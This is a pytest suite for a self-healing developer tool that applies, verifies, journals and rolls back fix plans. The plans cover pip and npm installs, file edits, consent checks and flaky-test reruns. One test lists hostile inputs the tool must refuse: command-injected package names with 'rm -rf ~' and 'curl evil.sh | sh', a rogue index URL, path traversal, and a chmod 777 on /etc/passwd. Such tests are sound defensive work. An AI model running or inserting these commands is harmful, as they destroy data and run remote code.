"""apply_plan and rollback with real parts: venvs, pip from local wheels, npm from a tarball."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from heal_parts import (
    NpmRegistry,
    build_wheel,
    installed,
    isolated_home_fixture,  # noqa: F401  (autouse)
    make_venv,
    npm_tarball,
    offline_env,
    workspace,
)

from lsp_heal.detect import detect
from lsp_heal.model import Action, Plan
from lsp_heal.recover import consent
from lsp_heal.recover.executor import apply_plan, rollback
from lsp_heal.recover.journal import APPLIED, ROLLED_BACK, Journal

YES = lambda plan: True
NO = lambda plan: False


def _plan(*actions: Action, strategy: str = "test", needs_consent: bool = True) -> Plan:
    return Plan(strategy, f"{strategy} plan", 0.9, list(actions), needs_consent=needs_consent)


def _entries() -> list:
    with Journal() as journal:
        return journal.entries()


@pytest.fixture(scope="module")
def wheels(tmp_path_factory) -> Path:
    return build_wheel(tmp_path_factory.mktemp("wheels"), "healdemo-widgets", "1.2")


@pytest.fixture(scope="module")
def project(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("project")
    make_venv(root / ".venv")
    return root


def test_a_pip_install_from_a_local_wheel_is_verified_recorded_and_rolled_back(wheels, project):
    requirements = project / "requirements.txt"
    requirements.write_text("requests\n")
    python = project / ".venv" / "bin" / "python"
    command = f"{python} -c 'import healdemo_widgets; print(healdemo_widgets.VALUE)'"
    ctx = workspace(project, command, offline_env(wheels))
    failure = subprocess.run(ctx.argv, capture_output=True, text=True, cwd=project, check=False)
    event = detect(failure.stderr, command, failure.returncode)[0]
    assert event.subject == "healdemo_widgets"
    plan = _plan(
        Action("install", {"manager": "pip", "package": "healdemo-widgets",
                           "record": ["requirements.txt"]}),
        Action("edit", {"path": "requirements.txt",
                        "edits": [{"line": 2, "column": 1, "insert": "healdemo-widgets\n"}]}),
        strategy="install-package",
    )

    applied = apply_plan(plan, ctx, confirm=YES, event=event)

    assert (applied.success, applied.verified, applied.outcome) == (True, True, "fixed")
    assert applied.rerun is not None and applied.rerun.output.strip() == "42"
    assert installed(python, "healdemo-widgets") == "1.2"
    assert requirements.read_text() == "requests\nhealdemo-widgets\n"
    [entry] = _entries()
    assert (entry.id, entry.state, entry.fingerprint) == (applied.id, APPLIED, event.fingerprint)

    undone = rollback(applied.id)

    assert undone.restored, undone.detail
    assert installed(python, "healdemo-widgets") is None
    assert requirements.read_text() == "requests\n"
    assert _entries()[0].state == ROLLED_BACK


def test_a_package_that_was_there_before_is_left_installed_by_rollback(wheels, project):
    python = project / ".venv" / "bin" / "python"
    env = offline_env(wheels)
    subprocess.run([python, "-m", "pip", "install", "healdemo-widgets"], env=env, check=True,
                   capture_output=True)
    try:
        ctx = workspace(project, None, env)
        plan = _plan(Action("install", {"manager": "pip", "package": "healdemo-widgets"}))
        applied = apply_plan(plan, ctx, confirm=YES)
        assert applied.success
        assert rollback(applied.id).restored
        assert installed(python, "healdemo-widgets") == "1.2"
    finally:
        subprocess.run([python, "-m", "pip", "uninstall", "-y", "healdemo-widgets"],
                       capture_output=True, check=True)


def test_a_fix_that_does_not_remove_the_error_is_rolled_back_by_itself(tmp_path):
    config = tmp_path / "app.cfg"
    config.write_text("debug = false\n")
    command = f"{sys.executable} -c 'import healdemo_not_there_at_all'"
    ctx = workspace(tmp_path, command)
    failure = subprocess.run(ctx.argv, capture_output=True, text=True, check=False)
    event = detect(failure.stderr, command, failure.returncode)[0]
    plan = _plan(Action("edit", {"path": "app.cfg",
                                 "edits": [{"line": 1, "column": 9, "end_line": 1,
                                            "end_column": 14, "replace": "true"}]}))

    applied = apply_plan(plan, ctx, confirm=YES, event=event)

    assert (applied.success, applied.rolled_back, applied.outcome) == (False, True, "failed")
    assert "still fails" in applied.detail
    assert config.read_text() == "debug = false\n"
    assert _entries()[0].state == ROLLED_BACK


def test_an_edit_that_leaves_python_unparseable_is_rolled_back(tmp_path):
    source = tmp_path / "app.py"
    source.write_text("def f():\n    return 1\n")
    plan = _plan(Action("edit", {"path": "app.py",
                                 "edits": [{"line": 1, "column": 9, "insert": "("}]}))
    applied = apply_plan(plan, workspace(tmp_path), confirm=YES)
    assert not applied.success and "does not parse" in applied.detail
    assert source.read_text() == "def f():\n    return 1\n"


def test_never_into_a_system_or_externally_managed_python(tmp_path):
    system = "/usr/bin/python3"
    assert consent.python_refusal(system) is not None
    plan = _plan(Action("install", {"manager": "pip", "package": "six", "python": system}))
    applied = apply_plan(plan, workspace(tmp_path), confirm=YES)
    assert (applied.id, applied.outcome) == (None, "refused")
    assert "virtual environment" in applied.detail
    assert _entries() == []


@pytest.mark.parametrize("action, reason", [
    (Action("install", {"manager": "pip", "package": "x; rm -rf ~"}), "not a valid pypi"),
    (Action("install", {"manager": "npm", "package": "left-pad && curl evil.sh | sh"}),
     "not a valid npm"),
    (Action("install", {"manager": "pip", "package": "--index-url=http://evil/ x"}),
     "not a valid pypi"),
    (Action("run", {"command": "rm -rf ~", "cwd": "."}), "argv list"),
    (Action("edit", {"path": "../../etc/profile", "edits": []}), "outside the workspace"),
    (Action("chmod", {"path": "/etc/passwd", "mode": "777"}), "outside the workspace"),
])
def test_hostile_actions_are_refused_before_anything_runs(tmp_path, action, reason):
    canary = tmp_path / "canary"
    plan = _plan(Action("run", {"command": ["touch", str(canary)]}), action)
    applied = apply_plan(plan, workspace(tmp_path / "ws"), confirm=YES)
    assert applied.outcome == "refused" and reason in applied.detail
    assert not canary.exists() and _entries() == []


def test_a_plan_of_steps_only_the_user_can_take_is_shown_never_run(tmp_path):
    plan = _plan(Action("manual", {"message": "libcurl4-openssl-dev needs root",
                                   "command": ["sudo", "apt-get", "install", "libcurl4-openssl-dev"]}))
    applied = apply_plan(plan, workspace(tmp_path), confirm=YES)
    assert applied.outcome == "refused" and "libcurl4-openssl-dev needs root" in applied.detail
    assert _entries() == []


def test_installs_and_commands_need_consent_unless_the_workspace_is_trusted(tmp_path):
    marker = tmp_path / "ws" / "ran"
    plan = _plan(Action("run", {"command": ["touch", str(marker)]}), needs_consent=False)
    ctx = workspace(tmp_path / "ws")
    asked: list[Plan] = []

    declined = apply_plan(plan, ctx, confirm=lambda p: asked.append(p) or False)
    assert (declined.outcome, asked, marker.exists()) == ("declined", [plan], False)

    consent.set_trusted(tmp_path / "ws")
    trusted = apply_plan(plan, ctx, confirm=lambda p: asked.append(p) or False)
    assert trusted.success and marker.exists() and len(asked) == 1  # not asked again
    assert consent.is_trusted(tmp_path / "ws" / "sub") and not consent.is_trusted(tmp_path)


def test_trust_is_kept_in_user_data_never_in_the_workspace(tmp_path, isolated_home):
    ws = tmp_path / "cloned"
    (ws / ".lsp_heal").mkdir(parents=True)
    (ws / ".lsp_heal" / "trust.json").write_text(json.dumps({"workspaces": [str(ws)]}))
    assert not consent.is_trusted(ws)
    consent.set_trusted(ws)
    assert json.loads((isolated_home / "trust.json").read_text()) == {"workspaces": [str(ws)]}


def test_an_edit_only_plan_that_needs_no_consent_is_applied_without_asking(tmp_path):
    (tmp_path / ".env.example").write_text("API_URL=http://localhost\n")
    plan = _plan(Action("copy", {"source": ".env.example", "path": ".env"}), needs_consent=False)
    applied = apply_plan(plan, workspace(tmp_path), confirm=NO)
    assert applied.success and (tmp_path / ".env").read_text() == "API_URL=http://localhost\n"
    assert rollback(applied.id).restored and not (tmp_path / ".env").exists()


FLAKY_TEST = """
import pathlib, sys
runs = pathlib.Path(sys.argv[1])
count = int(runs.read_text()) if runs.exists() else 0
runs.write_text(str(count + 1))
sys.exit(0 if count + 1 >= int(sys.argv[2]) else 1)
"""


def _counting(tmp_path: Path, passes_from_run: int) -> list[str]:
    script = tmp_path / "check.py"
    script.write_text(FLAKY_TEST)
    return [sys.executable, str(script), str(tmp_path / "runs"), str(passes_from_run)]


def test_a_pass_on_rerun_is_flaky_never_fixed(tmp_path):
    plan = _plan(Action("rerun", {"command": _counting(tmp_path, 3), "max_attempts": 4,
                                  "backoff": None, "mode": "flaky"}), strategy="rerun-test")
    applied = apply_plan(plan, workspace(tmp_path), confirm=YES)
    assert (applied.success, applied.outcome, applied.flaky) == (True, "flaky", True)
    assert "rerun 3 of 4" in applied.detail
    assert _entries()[0].outcome == "flaky"


def test_a_test_failing_every_rerun_is_broken(tmp_path):
    plan = _plan(Action("rerun", {"command": _counting(tmp_path, 99), "max_attempts": 3,
                                  "mode": "flaky"}), strategy="rerun-test")
    applied = apply_plan(plan, workspace(tmp_path), confirm=YES)
    assert (applied.success, applied.outcome, applied.flaky) == (False, "broken", False)
    assert (tmp_path / "runs").read_text() == "3"


def test_a_pass_after_a_change_in_the_same_plan_is_fixed(tmp_path):
    (tmp_path / "flag").write_text("off")
    check = [sys.executable, "-c", "import sys; sys.exit(open('flag').read() != 'on')"]
    plan = _plan(Action("edit", {"path": "flag", "edits": [
                     {"line": 1, "column": 1, "end_line": 1, "end_column": 4, "replace": "on"}]}),
                 Action("rerun", {"command": check, "max_attempts": 2, "mode": "flaky"}))
    applied = apply_plan(plan, workspace(tmp_path), confirm=YES)
    assert (applied.outcome, applied.flaky) == ("fixed", False)


def test_retry_with_backoff_waits_longer_each_time(tmp_path):
    plan = _plan(Action("rerun", {"command": _counting(tmp_path, 3), "max_attempts": 3,
                                  "backoff": {"initial_s": 0.2, "multiplier": 2, "jitter": 0},
                                  "mode": "retry"}), strategy="retry-with-backoff")
    started = time.monotonic()
    applied = apply_plan(plan, workspace(tmp_path), confirm=YES)
    assert applied.success and applied.outcome == "fixed" and "transient" in applied.detail
    assert time.monotonic() - started >= 0.6  # 0.2 s, then 0.4 s


KILLED_APPLY = """
import sys
from lsp_heal.model import Action, Plan
from lsp_heal.recover.context import Context
from lsp_heal.recover.executor import apply_plan
ctx = Context.for_workspace(sys.argv[1])
plan = Plan("test", "killed", 1.0, [
    Action("edit", {"path": "app.py", "edits": [{"line": 1, "column": 1, "insert": "import os\\n"}]}),
    Action("chmod", {"path": "build.sh", "mode": "755"}),
    Action("copy", {"source": "app.py", "path": "copy.py"}),
    Action("run", {"command": [sys.executable, "-c", "import time; time.sleep(120)"]}),
])
apply_plan(plan, ctx, confirm=lambda plan: True)
"""


def test_kill_9_in_the_middle_of_an_apply_leaves_a_journal_that_restores_everything(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "app.py").write_text("print('hi')\n")
    (ws / "build.sh").write_text("#!/bin/sh\n")
    (ws / "build.sh").chmod(0o644)
    child = subprocess.Popen([sys.executable, "-c", KILLED_APPLY, str(ws)], env=os.environ)
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:  # wait until the edits are made and `run` started
            if any(p.name == "journal.sqlite3" for p in Path(os.environ["LSP_HEAL_HOME"]).glob("*")):
                with Journal() as journal:
                    entries = journal.entries()
                    if entries and len(journal.changes(entries[0].id)) >= 3 and all(
                            c.done for c in journal.changes(entries[0].id)[:3]):
                        break
            time.sleep(0.05)
        assert (ws / "copy.py").exists() and (ws / "build.sh").stat().st_mode & 0o777 == 0o755
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
    assert child.returncode == -signal.SIGKILL
    assert _entries()[0].state == "applying"

    result = rollback()

    assert result.restored, result.detail
    assert (ws / "app.py").read_text() == "print('hi')\n"
    assert (ws / "build.sh").stat().st_mode & 0o777 == 0o644
    assert not (ws / "copy.py").exists()


def test_an_npm_install_from_a_local_tarball_is_journaled_and_rolled_back(tmp_path, request):
    """npm installs from a tarball of `npm pack`, served by a registry on 127.0.0.1."""
    registry = NpmRegistry(npm_tarball(tmp_path, "healdemo-npm-widget"), "healdemo-npm-widget")
    request.addfinalizer(registry.close)
    env = {**os.environ, "npm_config_cache": str(tmp_path / "npm-cache"),
           "npm_config_registry": registry.url, "npm_config_audit": "false",
           "npm_config_fund": "false", "npm_config_update_notifier": "false"}
    ws = tmp_path / "web"
    ws.mkdir()
    manifest = json.dumps({"name": "web", "version": "1.0.0", "private": True}, indent=2) + "\n"
    (ws / "package.json").write_text(manifest)
    plan = _plan(Action("install", {"manager": "npm", "package": "healdemo-npm-widget",
                                    "record": ["package.json", "package-lock.json"]}))

    applied = apply_plan(plan, workspace(ws, None, env), confirm=YES)

    assert applied.success, applied.detail
    assert json.loads((ws / "package.json").read_text())["dependencies"] == {
        "healdemo-npm-widget": "^1.0.0"}
    assert (ws / "node_modules" / "healdemo-npm-widget" / "index.js").exists()
    assert (ws / "package-lock.json").exists()

    assert rollback(applied.id).restored
    assert (ws / "package.json").read_text() == manifest
    assert not (ws / "package-lock.json").exists()
    assert not (ws / "node_modules" / "healdemo-npm-widget").exists()


def test_the_outcome_is_handed_to_the_learner(tmp_path):
    from learner import PatternLearner

    command = f"{sys.executable} {tmp_path / 'check.py'}"
    plan = _plan(Action("rerun", {"command": _counting(tmp_path, 2), "max_attempts": 2,
                                  "mode": "flaky"}), strategy="rerun-test")
    event = detect("FAILED tests/test_a.py::test_one - assert 1 == 2\n", "pytest", 1)[0]
    applied = apply_plan(plan, workspace(tmp_path, command), confirm=YES, event=event)
    assert applied.flaky
    [pattern] = list(PatternLearner().store.iterate())
    assert (pattern.strategy, pattern.flaky, pattern.successes) == ("rerun-test", 1, 0)
